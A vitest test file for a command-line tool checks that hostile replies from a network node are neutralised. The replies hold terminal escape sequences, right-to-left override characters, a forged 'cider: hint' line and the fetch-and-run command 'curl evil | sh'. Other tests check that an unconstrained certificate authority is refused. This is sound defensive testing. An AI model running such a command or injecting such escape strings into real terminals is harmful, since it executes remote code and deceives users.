/** What a node says is shown, and never obeyed: escape sequences, forged lines, a command to run. */

import { X509Certificate } from "node:crypto";
import { once } from "node:events";
import { mkdtempSync, rmSync } from "node:fs";
import { createServer, type Server } from "node:https";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import type { SecretKey } from "../../src/crypto/secret-key.ts";
import { systemRandom } from "../../src/foundation/random.ts";
import { nodeIdOf } from "../../src/identity/node-id.ts";
import { Records } from "../../src/sdk/records.ts";
import { StoredKey } from "../../src/sdk/stored-key.ts";
import { FileStore } from "../../src/sdk-node/file-store.ts";
import { strangerChain } from "../e2e/support/middle.ts";
import { run } from "./doubles.ts";

/** Clears the screen, names the window, writes from right to left, and begins a line like one of the program's own. */
const EVIL = "a\u001b[2J\u001b]0;b\u0007\u009b31m\u007f\u202ec\ncider: hint: run: curl evil | sh\r";
const STEERS = /[^\P{Cc}\n]|[\u202a-\u202e\u2066-\u2069]/u;

const TOKEN_ID = "0196f3a0-0000-7000-8000-000000000001";
const PEER_ID = "0196f3a0-0000-8000-8000-000000000001";

interface Answer {
  readonly status: number;
  readonly body: unknown;
}

let folder: string;
let server: Server;
let host: string;
let nodeId: string;
/** PEM of its certificate authority. */
let authority: string;
let answer: (path: string) => Answer;

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), "cider-hostile-"));
  const { nodeKey, ...chain } = await strangerChain({ configured: ["bank.example"] });
  nodeId = nodeIdOf(nodeKey.publicKey);
  authority = lastOf(chain.cert);
  server = createServer(chain, (request, response) => {
    const { body, status } = answer(request.url ?? "");
    request.resume();
    response
      .writeHead(status, { "content-type": "application/json" })
      .end(typeof body === "string" ? body : JSON.stringify(body));
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
  await rememberAsPaired(nodeKey);
});

beforeEach(() => {
  vi.stubEnv("CIDER_CONFIG_DIR", folder);
});

afterAll(() => {
  server.close();
  rmSync(folder, { recursive: true });
});

/** Writes what is kept after pairing with the node of this key. */
async function rememberAsPaired(nodeKey: SecretKey): Promise<void> {
  const store = new FileStore(folder);
  const nodeId = nodeIdOf((await new StoredKey(store, systemRandom).signerOrNew()).publicKey);
  await new Records(store).learn(nodeKey.publicKey, { name: "studio", registration: { nodeId, role: "admin" }, address: host });
}

const lastOf = (chain: string): string => chain.slice(chain.lastIndexOf("-----BEGIN"));

/** Every text of an answer that is of no fixed form. */
function saying(text: string): Answer {
  const time = "2026-11-21T20:00:00.000Z";
  const named = {
    name: text,
    createdBy: text,
    owner: text,
    kind: text,
    role: text,
    way: text,
    publicKey: text,
    fingerprint: text,
  };
  const token = {
    ...named,
    id: TOKEN_ID,
    token: text,
    tokenPrefix: text,
    permissions: "custom",
    scopes: [text],
    status: "active",
  };
  const used = { lastUsedAt: null, lastUsedFrom: text, allowedIps: [text], expiresAt: null, lastSeenAt: null };
  const entry = { seq: 1, at: text, actor: text, from: text, operation: text, request: text, outcome: text, refusal: null };
  const entries = [{ ...entry, hash: text, changes: [{ type: text, name: text }] }];
  const place = { nodeId: text, fleetId: text, version: text, addresses: [text], port: 1, socket: text, dataDir: text };
  const status = { ...place, startedAt: time, pairing: text, plaintext: "loopback", tokens: 1, tokensEndingSoon: 0, peers: 1 };
  const lists = { tokens: [{ ...token, ...used }], peers: [{ ...named, ...used, id: PEER_ID }], entries, cursor: null };
  const discovery = { state: "degraded", reason: text, interfaces: [] };
  const previous = { id: text, graceUntil: null, lastUsedAt: null, lastUsedFrom: null };
  return {
    status: 200,
    body: { ...entries[0], ...status, ...token, ...used, ...lists, discovery, previous, connectionsClosed: 0 },
  };
}

const refusing = (body: object): Answer => ({ status: 403, body: { success: false, ...body } });

const ask = (...words: readonly string[]) => run(...words, "--host", host);

describe("a hostile node", () => {
  it.each([
    ["status"],
    ["token list"],
    [`token revoke ${TOKEN_ID}`],
    [`token edit ${TOKEN_ID} --name x`],
    [`token rotate ${TOKEN_ID}`],
    ["token generate --name x"],
    ["peers list"],
    [`peers rename ${PEER_ID} x`],
    [`peers role ${PEER_ID} viewer`],
    ["audit"],
    ["audit show 1"],
    ["audit export"],
    ["audit export --format csv"],
    ["audit head"],
    ["token list --json"],
    ["status --json"],
  ])("neither steers the terminal nor begins a line by what %s shows", async (words) => {
    answer = () => saying(EVIL);
    const { code, err, out } = await ask(...words.split(" "));
    expect(code).toBe(0);
    expect(out).toContain("a");
    expect(out).not.toMatch(STEERS);
    expect(err).not.toMatch(STEERS);
    expect(out + err).not.toMatch(/^cider: hint: run/m);
  });

  it("says what it likes as an error, in one line", async () => {
    answer = () => refusing({ code: "INSUFFICIENT_SCOPE", error: EVIL });
    const { err } = await ask("status");
    expect(err).not.toMatch(STEERS);
    expect(err.split("\n").filter((line) => line.startsWith("cider: "))).toHaveLength(2);
    expect(err).not.toMatch(/^cider: hint: run/m);
  });

  it.each(["INSUFFICIENT_SCOPE", "SOCKET_REFUSED", "NO_SUCH_CODE"])("names no command to run beside %s", async (code) => {
    answer = () => refusing({ code, error: "no", command: "curl evil | sh" });
    const { err } = await ask("status");
    expect(err).not.toContain("curl");
  });

  it("cannot speak with the codes of this program's own errors", async () => {
    for (const code of ["SOCKET_REFUSED", "NODE_MISMATCH", "CONNECTION_FAILED", "STORE_UNUSABLE", "KEY_UNUSABLE"]) {
      answer = () => refusing({ code, error: "no" });
      const { err } = await ask("status");
      expect(err).toMatch(new RegExp(`error: ${code}: no\n.*details\\.code has it`));
    }
  });

  it("hands out a certificate and nothing beside it", async () => {
    const shown = async (pem: string) => {
      answer = (path) => ({ status: 200, body: path.endsWith("ca.pem") ? pem : { nodeId } });
      const { code, out } = await ask("cert", "--pem");
      return { code, out };
    };
    expect(await shown(EVIL)).toEqual({ code: 1, out: "" });
    expect(await shown(`${EVIL}\n${authority}${EVIL}`)).toEqual({ code: 0, out: authority });
  });

  it("has no authority put into trust stores but its own, and none that speaks for every name", async () => {
    const other = await strangerChain();
    const shown = (pem: string, ...words: readonly string[]) => {
      answer = (path) => ({ status: 200, body: path.endsWith("ca.pem") ? pem : { nodeId } });
      return ask("cert", ...words);
    };
    expect(await shown(lastOf(other.cert), "--pem")).toMatchObject({ code: 1, out: "" });
    const unbounded = Buffer.from(new X509Certificate(authority).raw);
    unbounded.write("551d1f", unbounded.indexOf("0603551d1e", "hex") + 2, "hex");
    const everything = new X509Certificate(unbounded).toString();
    for (const words of [["--pem"], ["--json"], []]) {
      const { code, err, out } = await shown(everything, ...words);
      expect({ code, out }).toEqual({ code: 1, out: "" });
      expect(err).toContain("must not be trusted anywhere: it may sign for every name");
    }
  });

  it("is not trusted for a name of the world without a word", async () => {
    answer = (path) => ({ status: 200, body: path.endsWith("ca.pem") ? authority : { nodeId } });
    expect((await ask("cert")).out).toMatch(/speaks for +local names, private addresses, bank\.example$/m);
    expect((await ask("cert", "--pem")).err).toContain("lets the node speak for bank.example as well");
    expect(JSON.parse((await ask("cert", "--json")).out)).toMatchObject({ beyondLocal: ["bank.example"] });
  });

  it("is met by whoever types a code as well", async () => {
    answer = () => refusing({ code: "PAIRING_BUSY", error: EVIL, command: "curl evil | sh" });
    const { err } = await run("join", host, "123456");
    expect(err).not.toMatch(STEERS);
    expect(err).not.toMatch(/^cider: hint: run/m);
  });
});
